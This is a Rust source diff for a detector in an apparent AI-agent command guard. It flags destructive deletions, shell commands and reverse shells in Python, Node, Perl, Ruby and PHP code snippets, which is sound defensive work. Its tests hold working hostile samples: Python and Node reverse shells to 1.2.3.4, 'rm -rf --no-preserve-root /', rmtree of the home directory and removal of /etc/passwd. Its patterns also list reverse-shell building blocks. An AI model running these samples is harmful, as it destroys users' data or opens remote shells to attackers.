@@ -1,0 +1,609 @@
+//! Code reading for `execute_code` and `python -c` / `node -e` / `perl -e`
+//! / `ruby -e` / `php -r`: destructive calls, shell commands the code
+//! runs, reverse shells, with simple constant folding.
+//!
+//! ## What it does
+//! A small lexer over the program text (string literals with their
+//! prefixes and quotes, f-strings and template literals, identifiers,
+//! calls with their parenthesised arguments) and a constant folder:
+//! string literals, `+` concatenation, f-strings / template literals over
+//! names assigned earlier, `os.path.expanduser('~')`, `os.homedir()`,
+//! `Path.home()`, `process.env.HOME`, `os.environ['HOME']`,
+//! `os.path.join(…)` resolve to the path they name. Then:
+//! - deletions (`shutil.rmtree`, `os.remove`/`unlink`/`rmdir`,
+//!   `fs.rmSync`/`rmdirSync`/`unlinkSync`, `rimraf`, `FileUtils.rm_rf`) of a
+//!   root, home or system path block, as do `os.walk`/`rglob` walks from
+//!   one that remove what they find;
+//! - commands run (`os.system`, `subprocess.*` with a shell string or an
+//!   argv list, `os.popen`, `child_process.exec/execSync/spawn`,
+//!   `IO.popen`, `system`) are read by the shell reader like any command;
+//! - reverse shells: a socket whose descriptors are given to a shell
+//!   (`socket` + `dup2` + `pty.spawn`/a shell), `net.connect` piped into a
+//!   spawned shell, `TCPSocket` + `popen`, `fsockopen` + `exec`.
+//!
+//! ## Why a hand-written lexer
+//! The guard must stay pure, linear and inside a 10 µs budget for 1 KB;
+//! tree-sitter grammars need a C toolchain and a few MB of generated
+//! parser per language and are built for editors, not for one pass over
+//! untrusted text. What the rules need (literals, names, call arguments)
+//! is lexical, and a lexer over `regex` matches it in one linear pass.
+//!
+//! ## Not flagged
+//! `shutil.rmtree('build')`, `fs.rmSync('dist', {recursive: true})`,
+//! `subprocess.run(['git', 'status'])`, a socket health check to 127.0.0.1.
+
+use super::destructive::root_like;
+use regex::Regex;
+use std::collections::HashMap;
+use std::sync::OnceLock;
+
+/// What reading the code found.
+#[derive(Debug, Default)]
+pub(crate) struct CodeFindings {
+    /// A destructive call on a root-like path.
+    pub(crate) delete: bool,
+    /// A reverse shell.
+    pub(crate) reverse_shell: bool,
+    /// Shell command lines the code runs.
+    pub(crate) commands: Vec<String>,
+}
+
+/// Most calls examined per program.
+const MAX_CALLS: usize = 256;
+/// Most names remembered.
+const MAX_NAMES: usize = 256;
+/// Longest call argument text read.
+const MAX_ARGS: usize = 4096;
+
+struct Patterns {
+    assign: Regex,
+    call: Regex,
+}
+
+/// The lexer's patterns; `None` only if a constant pattern failed to
+/// compile, which a test rules out.
+fn patterns() -> Option<&'static Patterns> {
+    static P: OnceLock<Option<Patterns>> = OnceLock::new();
+    P.get_or_init(|| {
+        Some(Patterns {
+            assign: Regex::new(
+                r"(?m)^[ \t]*(?:(?:const|let|var|my|our)[ \t]+)?\$?([A-Za-z_]\w*)[ \t]*=[ \t]*([^=\n;][^\n;]*)",
+            )
+            .ok()?,
+            call: Regex::new(r"([A-Za-z_$][\w$]*(?:\s*\.\s*[A-Za-z_$][\w$]*)*)\s*\(").ok()?,
+        })
+    })
+    .as_ref()
+}
+
+/// Read a program.
+pub(crate) fn read(code: &str) -> CodeFindings {
+    let mut out = CodeFindings::default();
+    let Some(p) = patterns() else {
+        return out;
+    };
+    let mut names: HashMap<String, String> = HashMap::new();
+    for c in p.assign.captures_iter(code).take(MAX_NAMES * 4) {
+        let (Some(name), Some(rhs)) = (c.get(1), c.get(2)) else {
+            continue;
+        };
+        if names.len() >= MAX_NAMES {
+            break;
+        }
+        if let Some(v) = fold(rhs.as_str().trim(), &names) {
+            names.insert(name.as_str().to_owned(), v);
+        }
+    }
+    let lower = code.to_ascii_lowercase();
+    let mut walk_root = false;
+    for c in p.call.captures_iter(code).take(MAX_CALLS) {
+        let (Some(whole), Some(callee)) = (c.get(0), c.get(1)) else {
+            continue;
+        };
+        let callee: String = callee
+            .as_str()
+            .chars()
+            .filter(|c| !c.is_whitespace())
+            .collect();
+        let last = callee.rsplit('.').next().unwrap_or(&callee);
+        let args_text = call_args(code, whole.end());
+        let args = split_top(args_text);
+        let first = args.first().and_then(|a| fold(a, &names));
+        match last {
+            "rmtree" | "rmSync" | "rmdirSync" | "rm_rf" | "rm_r" | "rimraf" | "removedirs"
+            | "remove_dir_all" | "emptyDirSync" | "removeSync" | "RemoveAll"
+                if first.as_deref().is_some_and(root_like) =>
+            {
+                out.delete = true;
+            }
+            "walk" | "rglob" | "glob" | "iterdir" | "scandir" | "listdir" | "readdirSync" => {
+                let base = if callee.contains("home") {
+                    Some("~".to_owned())
+                } else {
+                    first.clone().or_else(|| receiver_path(&callee, &names))
+                };
+                if base.as_deref().is_some_and(root_like) {
+                    walk_root = true;
+                }
+            }
+            "system"
+            | "popen"
+            | "getoutput"
+            | "getstatusoutput"
+            | "exec"
+            | "execSync"
+            | "shell_exec"
+            | "passthru"
+            | "spawn"
+            | "spawnSync"
+            | "execFile"
+            | "execFileSync"
+            | "run"
+            | "call"
+            | "check_call"
+            | "check_output"
+            | "Popen"
+            | "create_subprocess_shell"
+                if is_exec_callee(&callee, last) =>
+            {
+                let a0 = args.first().copied().unwrap_or("");
+                let command = if a0.trim_start().starts_with('[') {
+                    argv_list(a0, &names)
+                } else {
+                    let mut cmd = first.clone();
+                    // `spawn('rm', ['-rf', '/'])`: the argv follows.
+                    if let (Some(c), Some(list)) = (cmd.as_mut(), args.get(1)) {
+                        if list.trim_start().starts_with('[') {
+                            if let Some(rest) = argv_list(list, &names) {
+                                c.push(' ');
+                                c.push_str(&rest);
+                            }
+                        }
+                    }
+                    cmd
+                };
+                if let Some(command) = command {
+                    if out.commands.len() < 32 {
+                        out.commands.push(command);
+                    }
+                }
+            }
+            _ => {}
+        }
+        if walk_root
+            && (lower.contains("remove(")
+                || lower.contains("unlink(")
+                || lower.contains("rmdir(")
+                || lower.contains("unlinksync("))
+        {
+            out.delete = true;
+        }
+        // `os.remove('/etc/passwd')`, `fs.unlinkSync('/etc/hosts')`: one
+        // system file.
+        if matches!(
+            last,
+            "remove" | "unlink" | "unlinkSync" | "rmdir" | "delete"
+        ) && first
+            .as_deref()
+            .is_some_and(|f| root_like(f) || f.starts_with("/etc/"))
+        {
+            out.delete = true;
+        }
+    }
+    // Perl and Ruby call without parentheses: `unlink '/etc/passwd'`,
+    // `rmtree "/home"`, `FileUtils.rm_rf '/'`.
+    for word in ["unlink ", "rmtree ", "remove_tree ", "rm_rf ", "rm_r "] {
+        for (at, _) in code.match_indices(word).take(16) {
+            let rest = code[at + word.len()..].trim_start();
+            if !rest.starts_with(['\'', '"']) {
+                continue;
+            }
+            let lit_end = rest
+                .char_indices()
+                .skip(1)
+                .find(|&(_, c)| rest.starts_with(c))
+                .map(|(i, _)| i + 1);
+            if let Some(v) = lit_end.and_then(|e| literal(&rest[..e], &names)) {
+                if root_like(&v) || v.starts_with("/etc/") {
+                    out.delete = true;
+                }
+            }
+        }
+    }
+    out.reverse_shell = reverse_shell(&lower);
+    out
+}
+
+fn is_exec_callee(callee: &str, last: &str) -> bool {
+    let receiver = callee.rsplit_once('.').map(|(r, _)| r);
+    let runner = |r: &str| {
+        matches!(
+            r.rsplit('.').next().unwrap_or(r),
+            "cp" | "child_process"
+                | "childProcess"
+                | "proc"
+                | "subprocess"
+                | "os"
+                | "shell"
+                | "Open3"
+                | "IO"
+                | "Kernel"
+                | "asyncio"
+                | "sp"
+        ) || r.contains("require(")
+    };
+    match last {
+        "run" | "call" | "check_call" | "check_output" | "Popen" | "exec" | "spawn"
+        | "spawnSync" => receiver.is_none_or(runner),
+        _ => true,
+    }
+}
+
+/// The path a method is called on: `Path('/usr').rglob` → `/usr`,
+/// `base.rglob` with `base` known.
+fn receiver_path(callee: &str, names: &HashMap<String, String>) -> Option<String> {
+    let recv = callee.rsplit_once('.')?.0;
+    names.get(recv).cloned()
+}
+
+/// The text of a call's arguments, from just after `(` to the matching
+/// `)` (strings skipped), at most [`MAX_ARGS`] bytes.
+fn call_args(code: &str, from: usize) -> &str {
+    let bytes = code.as_bytes();
+    let mut depth = 1usize;
+    let mut i = from;
+    let end = (from + MAX_ARGS).min(bytes.len());
+    let mut quote: Option<u8> = None;
+    while i < end {
+        let b = bytes[i];
+        match quote {
+            Some(q) => {
+                if b == b'\\' {
+                    i += 1;
+                } else if b == q {
+                    quote = None;
+                }
+            }
+            None => match b {
+                b'\'' | b'"' | b'`' => quote = Some(b),
+                b'(' | b'[' | b'{' => depth += 1,
+                b')' | b']' | b'}' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        break;
+                    }
+                }
+                _ => {}
+            },
+        }
+        i += 1;
+    }
+    let i = i.min(end);
+    let mut cut = i;
+    while cut > from && !code.is_char_boundary(cut) {
+        cut -= 1;
+    }
+    code.get(from..cut).unwrap_or("")
+}
+
+/// Split at top-level commas (outside strings and brackets).
+fn split_top(text: &str) -> Vec<&str> {
+    let bytes = text.as_bytes();
+    let mut out = Vec::new();
+    let mut depth = 0i32;
+    let mut quote: Option<u8> = None;
+    let mut start = 0;
+    let mut i = 0;
+    while i < bytes.len() {
+        let b = bytes[i];
+        match quote {
+            Some(q) => {
+                if b == b'\\' {
+                    i += 1;
+                } else if b == q {
+                    quote = None;
+                }
+            }
+            None => match b {
+                b'\'' | b'"' | b'`' => quote = Some(b),
+                b'(' | b'[' | b'{' => depth += 1,
+                b')' | b']' | b'}' => depth -= 1,
+                b',' if depth == 0 => {
+                    out.push(text[start..i].trim());
+                    start = i + 1;
+                }
+                _ => {}
+            },
+        }
+        i += 1;
+        if out.len() >= 16 {
+            break;
+        }
+    }
+    if start <= text.len() {
+        let last = text.get(start..).unwrap_or("").trim();
+        if !last.is_empty() {
+            out.push(last);
+        }
+    }
+    out
+}
+
+/// `['rm', '-rf', base]` → `rm -rf /etc`.
+fn argv_list(list: &str, names: &HashMap<String, String>) -> Option<String> {
+    let inner = list.trim().strip_prefix('[')?;
+    let inner = inner.strip_suffix(']').unwrap_or(inner);
+    let words: Vec<String> = split_top(inner)
+        .into_iter()
+        .map(|w| fold(w, names).unwrap_or_else(|| "$UNKNOWN".to_owned()))
+        .collect();
+    (!words.is_empty()).then(|| {
+        words
+            .iter()
+            .map(|w| {
+                if w.contains([' ', '\'', '"']) {
+                    format!("'{}'", w.replace('\'', ""))
+                } else {
+                    w.clone()
+                }
+            })
+            .collect::<Vec<_>>()
+            .join(" ")
+    })
+}
+
+/// Fold a string expression to its value: literals, `+`, f-strings and
+/// template literals, known names, home-directory calls, `os.path.join`.
+pub(crate) fn fold(expr: &str, names: &HashMap<String, String>) -> Option<String> {
+    let expr = expr.trim();
+    let parts = split_plus(expr);
+    if parts.len() > 1 {
+        let mut s = String::new();
+        for p in parts {
+            s.push_str(&fold(p, names)?);
+            if s.len() > MAX_ARGS {
+                return None;
+            }
+        }
+        return Some(s);
+    }
+    let e = expr;
+    if let Some(v) = literal(e, names) {
+        return Some(v);
+    }
+    let compact: String = e.chars().filter(|c| !c.is_whitespace()).collect();
+    let lower = compact.to_ascii_lowercase();
+    if lower.starts_with("os.path.join(")
+        || lower.starts_with("path.join(")
+        || lower.starts_with("path.resolve(")
+    {
+        let open = e.find('(')? + 1;
+        let inner = call_args(e, open);
+        let pieces: Vec<String> = split_top(inner)
+            .into_iter()
+            .map(|p| fold(p, names))
+            .collect::<Option<Vec<_>>>()?;
+        let mut joined = String::new();
+        for p in pieces {
+            if p.starts_with('/') || joined.is_empty() {
+                joined = p;
+            } else {
+                if !joined.ends_with('/') {
+                    joined.push('/');
+                }
+                joined.push_str(&p);
+            }
+        }
+        return Some(joined);
+    }
+    if lower.contains("expanduser(\"~\")")
+        || lower.contains("expanduser('~')")
+        || lower.ends_with("homedir()")
+        || lower.ends_with("path.home()")
+        || lower.contains("environ['home']")
+        || lower.contains("environ[\"home\"]")
+        || lower.contains("getenv('home')")
+        || lower.contains("getenv(\"home\")")
+        || lower == "process.env.home"
+        || lower == "env['home']"
+        || lower == "env[\"home\"]"
+        || lower == "dir.home"
+        || lower == "$env{home}"
+        || lower == "$env{'home'}"
+    {
+        return Some("~".into());
+    }
+    if let Some(inner) = lower
+        .strip_prefix("path(")
+        .or_else(|| lower.strip_prefix("pathlib.path("))
+    {
+        let _ = inner;
+        let open = e.find('(')? + 1;
+        return fold(call_args(e, open), names);
+    }
+    if e.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') {
+        return names.get(e).cloned();
+    }
+    None
+}
+
+/// Split at top-level `+`.
+fn split_plus(text: &str) -> Vec<&str> {
+    let bytes = text.as_bytes();
+    let mut out = Vec::new();
+    let mut depth = 0i32;
+    let mut quote: Option<u8> = None;
+    let mut start = 0;
+    let mut i = 0;
+    while i < bytes.len() {
+        let b = bytes[i];
+        match quote {
+            Some(q) => {
+                if b == b'\\' {
+                    i += 1;
+                } else if b == q {
+                    quote = None;
+                }
+            }
+            None => match b {
+                b'\'' | b'"' | b'`' => quote = Some(b),
+                b'(' | b'[' | b'{' => depth += 1,
+                b')' | b']' | b'}' => depth -= 1,
+                b'+' if depth == 0 => {
+                    out.push(text[start..i].trim());
+                    start = i + 1;
+                }
+                _ => {}
+            },
+        }
+        i += 1;
+    }
+    out.push(text.get(start..).unwrap_or("").trim());
+    out
+}
+
+/// A string literal's value: `'…'`, `"…"`, `r'…'`, `f"…{name}…"`,
+/// `` `…${name}…` ``.
+fn literal(e: &str, names: &HashMap<String, String>) -> Option<String> {
+    let (prefix_len, fstring) = match e.as_bytes().first()? {
+        b'f' | b'F' => (1, true),
+        b'r' | b'R' | b'b' | b'u' => {
+            let f = e
+                .as_bytes()
+                .get(1)
+                .is_some_and(|b| *b == b'f' || *b == b'F');
+            (if f { 2 } else { 1 }, f)
+        }
+        _ => (0, false),
+    };
+    let body = &e[prefix_len..];
+    let q = body.chars().next()?;
+    if !matches!(q, '\'' | '"' | '`') {
+        return None;
+    }
+    let inner = body.strip_prefix(q)?.strip_suffix(q)?;
+    if inner.contains(q) && !inner.contains('\\') {
+        return None;
+    }
+    let template = q == '`';
+    if !(fstring || template) {
+        return Some(inner.to_owned());
+    }
+    // Interpolate `{name}` / `${name}`; unknown expressions stay unknown.
+    let mut out = String::new();
+    let mut rest = inner;
+    while let Some(open) = rest.find('{') {
+        let (before, after) = rest.split_at(open);
+        let before = if template {
+            before.strip_suffix('$').unwrap_or(before)
+        } else {
+            before
+        };
+        out.push_str(before);
+        let close = after.find('}')?;
+        let name = after[1..close].trim();
+        match fold(name, names) {
+            Some(v) => out.push_str(&v),
+            None => out.push_str("$UNKNOWN"),
+        }
+        rest = &after[close + 1..];
+    }
+    out.push_str(rest);
+    Some(out)
+}
+
+/// A socket whose descriptors go to a shell.
+fn reverse_shell(lower: &str) -> bool {
+    let has = |n: &str| lower.contains(n);
+    let shell = has("/bin/sh")
+        || has("/bin/bash")
+        || has("\"sh\"")
+        || has("'sh'")
+        || has("\"bash\"")
+        || has("'bash'")
+        || has("cmd.exe")
+        || has("powershell");
+    let python = has("socket")
+        && (has("dup2") || has("stdin=s") || has("stdin=sock") || has(".fileno()"))
+        && (has("pty.spawn") || has("subprocess") || has("os.system") || has("os.exec"));
+    let node = (has("net.socket")
+        || has("net.connect")
+        || has("createconnection")
+        || has("require('net')")
+        || has("require(\"net\")"))
+        && has("child_process")
+        && has(".pipe(")
+        && shell;
+    let ruby = has("tcpsocket") && (has("popen") || has("exec") || has("spawn") || has("system"));
+    let perl = has("socket(") && (has("exec") && has("open(stdin") || has("/bin/sh -i"));
+    let php =
+        has("fsockopen") && (has("exec") || has("proc_open") || has("shell_exec") || has("system"));
+    (python && (shell || has("pty.spawn"))) || node || ruby || perl || php
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn patterns_compile() {
+        assert!(patterns().is_some());
+    }
+
+    #[test]
+    fn folds_paths() {
+        let n = HashMap::new();
+        assert_eq!(fold("os.path.expanduser('~')", &n).as_deref(), Some("~"));
+        assert_eq!(fold("\"/\" + \"etc\"", &n).as_deref(), Some("/etc"));
+        assert_eq!(
+            fold("os.path.join(os.path.expanduser('~'), '')", &n).as_deref(),
+            Some("~/")
+        );
+        let mut n = HashMap::new();
+        n.insert("base".to_owned(), "/etc".to_owned());
+        assert_eq!(fold("f\"{base}/..\"", &n).as_deref(), Some("/etc/.."));
+        assert_eq!(fold("`rm -rf ${base}`", &n).as_deref(), Some("rm -rf /etc"));
+    }
+
+    #[test]
+    fn destructive_programs() {
+        for code in [
+            "import os, shutil\nhome = os.path.expanduser(\"~\")\nshutil.rmtree(home, ignore_errors=True)\n",
+            "const fs = require('fs');\nconst os = require('os');\nfs.rmSync(os.homedir(), { recursive: true, force: true });\n",
+            "import os\nfor root, dirs, files in os.walk('/usr'):\n    for name in files:\n        os.remove(os.path.join(root, name))\n",
+            "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.unlink()\n",
+            "import os; os.remove('/etc/passwd')",
+            "unlink '/etc/passwd'",
+        ] {
+            assert!(read(code).delete, "{code}");
+        }
+        for code in [
+            "import shutil\nshutil.rmtree('build', ignore_errors=True)\n",
+            "const fs = require('fs');\nfs.rmSync('dist', { recursive: true, force: true });\n",
+            "from pathlib import Path\nfor p in Path('data/cache').glob('*.tmp'):\n    p.unlink()\n",
+            "import shutil; print(shutil.disk_usage('/'))",
+        ] {
+            assert!(!read(code).delete, "{code}");
+        }
+    }
+
+    #[test]
+    fn commands_run_by_code() {
+        let r = read("import subprocess\nsubprocess.run([\"rm\", \"-rf\", \"--no-preserve-root\", \"/\"], check=False)\n");
+        assert_eq!(r.commands, ["rm -rf --no-preserve-root /"]);
+        let r = read("import os\nbase = \"/\" + \"etc\"\ntarget = f\"{base}/..\"\nos.system(f\"rm -rf {target}\")\n");
+        assert_eq!(r.commands, ["rm -rf /etc/.."]);
+        let r = read("const { execSync } = require('child_process');\nexecSync('rm -rf ' + process.env.HOME + '/', { stdio: 'inherit' });\n");
+        assert_eq!(r.commands, ["rm -rf ~/"]);
+        let r = read("const { execSync } = require('child_process');\nconst sha = execSync('git rev-parse --short HEAD').toString().trim();\n");
+        assert_eq!(r.commands, ["git rev-parse --short HEAD"]);
+        assert!(read("m = re.compile('x'); m.exec('y')").commands.is_empty());
+    }
+
+    #[test]
+    fn reverse_shells() {
+        assert!(read("import socket, os, pty\ns = socket.socket()\ns.connect((\"1.2.3.4\", 8080))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn(\"/bin/bash\")\n").reverse_shell);
+        assert!(read("const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst client = new net.Socket();\nclient.connect(4242, '1.2.3.4', () => { client.pipe(sh.stdin); sh.stdout.pipe(client); });").reverse_shell);
+        assert!(!read("import socket\nfor port in (5432, 6379):\n    socket.create_connection((\"127.0.0.1\", port), timeout=1).close()\n").reverse_shell);
+    }
+}
